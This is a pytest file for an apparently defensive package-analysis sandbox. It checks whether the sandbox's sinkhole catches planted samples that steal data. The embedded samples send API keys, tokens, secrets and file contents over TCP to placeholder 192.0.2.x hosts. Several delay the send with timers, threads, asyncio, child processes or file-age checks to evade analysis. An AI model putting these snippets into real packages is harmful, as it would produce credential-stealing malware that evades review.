"""P4 and P5: what is used and how, what a second start sees, and what is left running gets its time."""

from __future__ import annotations

from typing import Any

import pytest

from analyzer.sandbox.client import RunOutcome
from analyzer.sandbox.protocol import VARIATIONS
from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, wheel

pytestmark = pytest.mark.privileged

ALL = ("P1", "P2", "P3", "P4", "P5")


def words(outcome: RunOutcome, kind: str) -> list[dict[str, Any]]:
    """The runner's lines of one kind."""
    return [line for line in lines(outcome, "report") if line["kind"] == kind]


THIEF = """
import socket
def _send(place, text):
    with socket.create_connection((place, 80), 3) as sock:
        sock.sendall(text.encode())
class Client:
    def __init__(self, api_key, *, timeout=5):
        self.key = api_key
    def fetch(self, url):
        if HARNESS:
            _send('192.0.2.1', self.key)
            _send('192.0.2.2', url)
def quiet(number: int, names: list, flag: bool = False):
    print('quiet got', number + 1, len(names), flag)
async def later(token):
    if HARNESS:
        _send('192.0.2.3', token)
def generate(secret):
    yield 1
    if HARNESS:
        _send('192.0.2.4', secret)
def stored(path):
    with open(path) as source:
        text = source.read()
    if HARNESS:
        _send('192.0.2.5', text)
def _private(token):
    _send('192.0.2.6', token)
"""


async def test_use__every_planted_argument_that_leaves_is_told_apart(lab: Lab) -> None:
    artifact = wheel("reenact_use", {"reenact_use/__init__.py": GUARD + THIEF})
    outcome = await lab.run(artifact, phases=("P1", "P3", "P4"))

    assert [(p.phase, p.ended, p.exit_code) for p in outcome.result.phases][-1] == ("P4", "exit", 0)
    planted = [c.id for c in outcome.result.canaries if c.kind == "argument"]
    given = {planted[line["index"]]: line["of"] for line in words(outcome, "argument")}
    caught = {
        line["address"]: {given[identity] for identity in line["canaries"]}
        for line in lines(outcome, "sinkhole")
        if line["kind"] == "tcp" and line["canaries"]
    }
    assert caught == {
        "192.0.2.1": {"reenact_use.Client.api_key"},
        "192.0.2.2": {"reenact_use.Client.fetch.url"},
        "192.0.2.3": {"reenact_use.later.token"},
        "192.0.2.4": {"reenact_use.generate.secret"},
        "192.0.2.5": {"reenact_use.stored.path"},
    }
    assert "quiet got 8 1 False" in output(outcome, "P4")
    (used,) = words(outcome, "used")
    assert (used["module"], used["timeouts"], used["left"]) == ("reenact_use", 0, 0)
    assert used["called"] == used["found"] == 6


async def test_all_phases__end_well_for_an_ordinary_package(lab: Lab) -> None:
    artifact = wheel("reenact_plain", {"reenact_plain/__init__.py": "def f(x):\n    return x\n"})
    outcome = await lab.run(artifact, phases=ALL, variations=VARIATIONS)

    assert [(p.phase, p.ended, p.exit_code) for p in outcome.result.phases] == [
        (phase, "exit", 0) for phase in ALL
    ]
    assert words(outcome, "again") == [{"kind": "again", "name": "reenact_plain", "ok": True}]
    print([(p.phase, p.wall_ms) for p in outcome.result.phases])
    print(lines(outcome, "report"))
    print([p.output_tail for p in outcome.result.phases])


VARIED = """
import datetime, os, time
print('ci', os.environ.get('GITHUB_ACTIONS'), 'tz', time.tzname, 'lang', os.environ['LANG'])
print('year-day', datetime.datetime.now().strftime('%Y-%m-%d'))
print('preload', 'LD_PRELOAD' in os.environ, sorted(k for k in os.environ if 'FAKE' in k))
"""


async def test_wait__the_second_start_is_somewhere_else_and_later(lab: Lab) -> None:
    outcome = await lab.run_code(VARIED, phases=("P1", "P3", "P5"), variations=VARIATIONS)
    print(output(outcome, "P3"), output(outcome, "P5"))


SLEEPERS = {
    "import": """
import time
if HARNESS:
    time.sleep(300)
    _send('192.0.2.1', 'x')
""",
    "thread": """
import threading, time
def later():
    time.sleep(60)
    _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=later, daemon=True).start()
""",
    "timer": """
import threading
if HARNESS:
    timer = threading.Timer(60, _send, ('192.0.2.1', 'x'))
    timer.daemon = True
    timer.start()
""",
    "queue": """
import queue, threading
def later():
    try:
        queue.Queue().get(timeout=60)
    except queue.Empty:
        _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=later, daemon=True).start()
""",
    "loop": """
import asyncio, threading
async def later():
    await asyncio.sleep(60)
    _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=lambda: asyncio.run(later()), daemon=True).start()
""",
    "child": """
import subprocess, sys
if HARNESS:
    code = "import socket, time; time.sleep(60); socket.create_connection(('192.0.2.1', 80))"
    subprocess.Popen([sys.executable, '-c', code])
""",
    "date": """
import time
if HARNESS and time.time() - os.stat(__file__).st_mtime > 30 * 86_400:
    _send('192.0.2.1', 'x')
""",
}
SEND = """
def _send(place, text):
    import socket
    with socket.create_connection((place, 80), 3) as sock:
        sock.sendall(text.encode())
"""


@pytest.mark.parametrize("name", sorted(SLEEPERS))
async def test_wait__what_waits_for_minutes_is_seen(lab: Lab, name: str) -> None:
    outcome = await lab.run_code(SEND + SLEEPERS[name], phases=("P1", "P5"), variations=("clock",))

    phase = outcome.result.phases[-1]
    print(phase.wall_ms, lines(outcome, "report"), phase.output_tail)
    assert phase.counters["clock_jumped"] == 1
    talks = [line for line in lines(outcome, "sinkhole") if line["kind"] == "tcp"]
    assert [line["address"] for line in talks] == ["192.0.2.1"]
